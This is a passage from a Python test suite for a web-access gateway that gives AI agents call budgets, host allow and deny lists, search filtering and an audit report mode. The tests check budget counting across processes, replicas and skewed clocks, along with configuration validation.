        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )


def test_two_processes_share_one_budget_through_sqlite(tmp_path: Path, site: LocalServer) -> None:
    """Two `webward fetch` processes spend one day budget kept in limits.db; --session names
    the session; the audit's usage summary counts both calls."""
    config = tmp_path / "webward.toml"
    config.write_text(
        '[network]\nallow_ranges = ["127.0.0.1/32"]\n[policy]\nrobots = false\n'
        '[agents.bot]\ntier = "connected"\nprovenance = "session"\n'
        "[agents.bot.budget]\nfetch_per_day = 1\n",
        encoding="utf-8",
    )
    state = tmp_path / "state"
    first = _cli(config, state, "fetch", site.url("/next"), "--agent", "bot", "--session", "s")
    assert first.returncode == 0, first.stderr
    second = _cli(config, state, "fetch", site.url("/next"), "--agent", "bot", "--session", "t")
    assert second.returncode == 3
    assert "has used its budget of 1 fetch calls per day; it renews at " in second.stderr
    usage = _cli(config, state, "audit", "--usage", "--json")
    assert usage.returncode == 0, usage.stderr
    assert json.loads(usage.stdout) == [
        {
            "agent": "bot",
            "capability": "web:page.fetch@1",
            "calls": 2,
            "spend": 0.0,
            "allowed": 1,
            "report-would-deny": 0,
            "refused": 1,
            "failed": 0,
        }
    ]
    table = _cli(config, state, "audit", "--usage")
    row = ["bot", "web:page.fetch@1", "2", "1", "0", "1", "0", "0"]
    assert table.stdout.splitlines()[1].split() == row


@pytest.mark.anyio
async def test_two_replicas_share_one_budget_through_redis(
    site: LocalServer, redis_url: str
) -> None:
    s = settings({"budget": {"fetch_per_hour": 3}}, state={"redis_url": redis_url})
    async with (
        web(s, limit_state=RedisLimitState(redis_url)) as one,
        web(s, limit_state=RedisLimitState(redis_url)) as two,
    ):
        await one.fetch(site.url("/next"), agent="bot")
        await two.fetch(site.url("/next"), agent="bot")
        await one.fetch(site.url("/next"), agent="bot")
        with pytest.raises(Refused) as err:
            await two.fetch(site.url("/next"), agent="bot")
    assert err.value.reason == "budget_exhausted"


@pytest.mark.anyio
async def test_replicas_whose_clocks_differ_keep_one_hour_budget_across_its_boundary(
    redis_url: str,
) -> None:
    """Two replicas 30 s apart around the hour: the one behind read the counter the one ahead
    stamped with the new hour as a past window's and started it again from 0, and each
    reset the other's count, so calls taking turns were never refused (40 of 40 through a
    budget of 5). It now counts in the later window: one call in the old hour, five in the
    new, and no more."""
    from webward._budgets import Budgets

    s = settings({"budget": {"fetch_per_hour": 5}})
    hour = 1_800_000_000.0 - 1_800_000_000.0 % 3600 + 3600
    state = RedisLimitState(redis_url)
    ahead = Budgets(s, state, clock=FakeClock(hour + 5))
    behind = Budgets(s, state, clock=FakeClock(hour - 25))
    allowed = 0
    try:
        for n in range(40):
            with contextlib.suppress(Refused):
                await (ahead if n % 2 else behind).charge_call("bot", "fetch", None)
                allowed += 1
    finally:
        await state.aclose()
    assert allowed == 6


@pytest.mark.anyio
async def test_replicas_hours_apart_and_a_clock_stepped_back_keep_one_hour_budget() -> None:
    """Replicas more than an hour apart each found the other's counter out of range (one too
    old, the other too far ahead) and started it again on every call: 40 calls taking turns
    all passed an hour budget of 5 (a day budget alone stopped them). A clock stepped back
    three hours (NTP, a restored VM) had the hour afresh. The slow clock now counts in the
    window the fast one stamped: one call before the fast one's first, five in its hour. A
    counter stamped more than a day ahead is still a broken clock's, and ours wins."""
    from webward._budgets import Budgets

    s = settings({"budget": {"fetch_per_hour": 5}})
    hour = 1_800_000_000.0 - 1_800_000_000.0 % 3600 + 1800
    state = MemoryLimitState()
    fast = Budgets(s, state, clock=FakeClock(hour))
    slow = Budgets(s, state, clock=FakeClock(hour - 2 * 3600 - 60))
    allowed = 0
    for n in range(40):
        with contextlib.suppress(Refused):
            await (fast if n % 2 else slow).charge_call("bot", "fetch", None)
            allowed += 1
    assert allowed == 6
    clock = FakeClock(hour)
    stepped = Budgets(s, MemoryLimitState(), clock=clock)
    for _ in range(5):
        await stepped.charge_call("bot", "fetch", None)
    clock.advance(-3 * 3600)
    with pytest.raises(Refused):
        await stepped.charge_call("bot", "fetch", None)
    clock.advance(-86_400)  # a day and more behind the counter: that clock was the broken one
    await stepped.charge_call("bot", "fetch", None)


@pytest.mark.anyio
async def test_a_budget_spent_in_the_next_window_says_when_that_window_ends() -> None:
    """A replica 25 s behind, refused by the budget a replica ahead spent in the new hour,
    said it renewed at the boundary it was short of (retry after 25 s), where the client was
    refused again: that budget renews when the new hour ends."""
    from webward._budgets import Budgets

    s = settings({"budget": {"fetch_per_hour": 1}})
    hour = 1_800_000_000.0 - 1_800_000_000.0 % 3600 + 3600
    state = MemoryLimitState()
    await Budgets(s, state, clock=FakeClock(hour + 5)).charge_call("bot", "fetch", None)
    with pytest.raises(Refused) as err:
        await Budgets(s, state, clock=FakeClock(hour - 25)).charge_call("bot", "fetch", None)
    assert err.value.retry_after == 3625
    ends = dt.datetime.fromtimestamp(hour + 3600, dt.UTC).isoformat(timespec="seconds")
    assert f"it renews at {ends.replace('+00:00', 'Z')}" in err.value.message


@pytest.mark.anyio
async def test_sqlite_budget_is_one_counter_for_two_stores(
    tmp_path: Path, site: LocalServer
) -> None:
    """A session's counter survives a new connection's pruning of idle rows."""
    s = settings({"budget": {"fetch_per_day": 2, "fetch_per_session": 1}})
    async with web(s, limit_state=SQLiteLimitState(tmp_path), clock=time.time) as one:
        await one.fetch(site.url("/next"), agent="bot", session="s")
    async with web(s, limit_state=SQLiteLimitState(tmp_path), clock=time.time) as two:
        with pytest.raises(Refused) as session:
            await two.fetch(site.url("/next"), agent="bot", session="s")
        await two.fetch(site.url("/next"), agent="bot", session="t")
        with pytest.raises(Refused) as day:
            await two.fetch(site.url("/next"), agent="bot", session="u")
    assert "per session" in session.value.message and "per day" in day.value.message


@pytest.mark.anyio
async def test_a_day_budget_is_not_forgotten_however_many_sessions_come_after() -> None:
    """The memory store drops the least recently used keys past its size: an agent that made
    searches under new session names (each a key) pushed its fetch day counter out, and had
    its day budget anew. The hour and day counters are kept."""
    from webward._budgets import Budgets

    s = settings({"budget": {"fetch_per_day": 2, "search_per_session": 5, "search_per_hour": 1}})
    budgets = Budgets(s, MemoryLimitState(max_keys=10), clock=FakeClock())
    for _ in range(2):
        await budgets.charge_call("bot", "fetch", None)
    for n in range(30):  # each session a key; all but the first refused by the hour
        with contextlib.suppress(Refused):
            await budgets.charge_call("bot", "search", f"new-{n}")
    with pytest.raises(Refused) as day:
        await budgets.charge_call("bot", "fetch", None)
    assert day.value.reason == "budget_exhausted" and "per day" in day.value.message


@pytest.mark.anyio
async def test_an_agent_named_with_colons_has_its_own_budget_counters() -> None:
    """Counter keys held the agent's name raw: agent ``team:bot`` was told of its "budget of 1
    bot calls" and to raise ``bot_per_hour``, and the day counter of an agent named with
    ``:session:`` in it was taken for a session's and pushed out of the memory store by
    other keys (its budget given back). The name is percent-encoded in the key."""
    from webward._budgets import Budgets
    from webward.limits import HostState

    s = Settings().replace(
        {
            "agents": {
                "team:bot": {"budget": {"fetch_per_hour": 1}},
                "a:session:b": {"budget": {"fetch_per_day": 1}},
            }
        }
    )
    state = MemoryLimitState(max_keys=10)
    budgets = Budgets(s, state, clock=FakeClock())
    await budgets.charge_call("team:bot", "fetch", None)
    with pytest.raises(Refused) as hour:
        await budgets.charge_call("team:bot", "fetch", None)
    assert "its budget of 1 fetch calls per hour" in hour.value.message
    assert hour.value.message.endswith("[agents.team:bot.budget] fetch_per_hour")
    await budgets.charge_call("a:session:b", "fetch", None)
    for n in range(30):
        await state.update(f"host-{n}.example", lambda cur: (HostState(1.0, 0.0), None))
    with pytest.raises(Refused) as day:
        await budgets.charge_call("a:session:b", "fetch", None)
    assert "per day" in day.value.message


# ---- lists per agent -------------------------------------------------------------------------


@pytest.mark.anyio
async def test_agent_deny_wins_and_the_refusal_names_the_list(
    site: LocalServer, attacker: LocalServer
) -> None:
    s = settings({"allow": ["127.0.0.1", "127.0.0.2"], "deny": ["127.0.0.2"]})
    async with web(s) as w:
        await w.fetch(site.url("/next"), agent="bot")
        with pytest.raises(Refused) as denied:
            await w.fetch(attacker.url("/"), agent="bot")
        await w.fetch(attacker.url("/"), agent="cli")  # another agent: its lists only
    assert attacker.accepts == 1
    assert denied.value.reason == "host_denied"
    assert "; 127.0.0.2 in [agents.bot] deny; remove it there" in denied.value.message


@pytest.mark.anyio
async def test_agent_allow_limits_reads_and_redirect_hops(
    site: LocalServer, attacker: LocalServer
) -> None:
    site.routes["/away"] = redirect(attacker.url("/"))
    s = settings({"allow": ["127.0.0.1"]})
    async with web(s) as w:
        with pytest.raises(Refused) as direct:
            await w.fetch(attacker.url("/"), agent="bot")
        with pytest.raises(Refused) as hop:
            await w.fetch(site.url("/away"), agent="bot")
    assert attacker.accepts == 0
    for err in (direct, hop):
        assert err.value.reason == "host_not_allowed"
        assert "add it to [agents.bot] allow to allow it" in err.value.message


@pytest.mark.anyio
async def test_agent_search_lists_filter_hits(site: LocalServer) -> None:
    items = [
        {"title": "A", "url": site.url("/hit"), "snippet": "", "published": None},
        {"title": "B", "url": "https://docs.example.org/b", "snippet": "", "published": None},
        {"title": "C", "url": "https://ads.example.org/c", "snippet": "", "published": None},
        {"title": "D", "url": "https://elsewhere.example/d", "snippet": "", "published": None},
    ]
    with serve(routes={BRAVE_PATH: FakeBrave(items, BRAVE_KEY)}) as brave:
        search = {"provider": "brave", "brave_url": brave.base}
        lists = {"search_allow": ["*.example.org"], "search_deny": ["ads.example.org"]}
        async with web(settings(lists, search=search)) as w:
            result = await w.search("q", agent="bot")
            other = await w.search("q", agent="cli")
    assert [h.url for h in result.hits] == ["https://docs.example.org/b"]
    assert len(other.hits) == 4


# ---- configuration ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"agents": {"a": {"provenance": "always"}}}, "agents.a.provenance must be off or session"),
        ({"agents": {"a": {"budget": {"fetch_per_day": -1}}}}, "holds a negative budget"),
        ({"agents": {"a": {"budget": {"fetch_per_week": 1}}}}, "agents.a.budget.fetch_per_week"),
        ({"search": {"brave": {"cost": -0.5}}}, "search.brave.cost must be a number >= 0"),
        ({"search": {"brave": {"price": 1}}}, "unknown config key search.brave.price"),
    ],
)
def test_bad_governance_settings_are_refused_on_load(
    overrides: dict[str, Any], message: str
) -> None:
    with pytest.raises(InvalidInput) as err:
        Settings().replace(overrides)
    assert message in err.value.message


def test_bad_agent_patterns_are_refused_when_the_web_is_built() -> None:
    with pytest.raises(InvalidInput) as err:
        Web(settings({"deny": ["*"]}), StaticResolver({}), audit=MemoryAuditSink())
    assert "agents.bot.deny holds '*'" in err.value.message


@pytest.mark.anyio
async def test_report_mode_lets_agent_lists_through_and_says_so(attacker: LocalServer) -> None:
    audit = MemoryAuditSink()
    async with web(settings({"deny": ["127.0.0.2"]}, policy={"mode": "report"}), audit) as w:
        await w.fetch(attacker.url("/"), agent="bot")
    assert [(r.decision, r.would_deny) for r in audit.records] == [
        ("report-would-deny", "host_denied")
    ]


@pytest.mark.anyio
async def test_report_mode_records_the_reason_enforce_would_refuse_with(
    attacker: LocalServer,
) -> None:
    """Two rules would deny: report mode records the one enforce mode stops at (the first),
    the [policy] deny list ahead of the agent's own allow list, so that an operator reading
    report-would-deny fixes the right rule."""
    rules = {"allow": ["example.org"]}
    async with web(settings(rules, policy={"deny": ["127.0.0.2"]})) as w:
        with pytest.raises(Refused) as enforced:
            await w.fetch(attacker.url("/"), agent="bot")
    audit = MemoryAuditSink()
    report = settings(rules, policy={"mode": "report", "deny": ["127.0.0.2"]})
    async with web(report, audit) as w:
        await w.fetch(attacker.url("/"), agent="bot")
        await w.fetch(attacker.url("/"), agent="bot")  # the screen remembered: the same
    assert enforced.value.reason == "host_denied"
    assert [(r.decision, r.would_deny) for r in audit.records] == [
        ("report-would-deny", "host_denied"),
        ("report-would-deny", "host_denied"),
    ]


@pytest.mark.anyio
async def test_a_bad_session_name_is_refused_by_name(site: LocalServer) -> None:
    audit = MemoryAuditSink()
    async with web(settings(), audit) as w:
        for bad in ("", "x" * 513, "a\nb"):
            with pytest.raises(InvalidInput) as err:
                await w.fetch(site.url("/next"), agent="bot", session=bad)
            assert err.value.message == "session must be a name of 1 to 512 printable characters"
            with pytest.raises(InvalidInput):
                await w.search("q", agent="bot", session=bad)
    assert site.accepts == 0
    assert {r.decision for r in audit.records} == {"refused"} and len(audit.records) == 6


def test_agent_search_lists_count_what_each_list_dropped() -> None:
    from webward._policy import AgentLists
    from webward._settings import AgentSettings

    agents = {
        "bot": AgentSettings(search_allow=("*.example.org",), search_deny=("ads.example.org",))
    }
    hosts = ["docs.example.org", "ads.example.org", "other.example", None]
    for report, kept in ((False, ["docs.example.org"]), (True, hosts)):
        lists = AgentLists(agents, report=report)
        got, dropped = lists.filter_hits(hosts, lambda h: h, "bot")
        assert got == kept
        # A hit with no host to read is on no allow-list: counted against search_allow.
        assert dropped == {"agents.bot.search_deny": 1, "agents.bot.search_allow": 2}


@pytest.mark.anyio
async def test_readiness_asks_the_budget_store_the_limits_are_kept_apart_from(
    tmp_path: Path,
) -> None:
    """The servers count budgets in limits.db when their limits are in memory
    (durable_budget_state): with that store unavailable (its state dir no directory, a full
    disk) every call of an agent with a budget is refused limits_unavailable, and
    ``check_ready`` (a gateway's /readyz) said ready all the same, so a load balancer kept
    sending calls there. Readiness now asks that store as it asks the limits'."""
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("")
    s = settings({"budget": {"fetch_per_hour": 5}})
    async with web(s, budget_state=SQLiteLimitState(blocker / "state")) as w:
        with pytest.raises(Refused) as refused:
            await w.check_ready()
    assert refused.value.reason == "limits_unavailable"
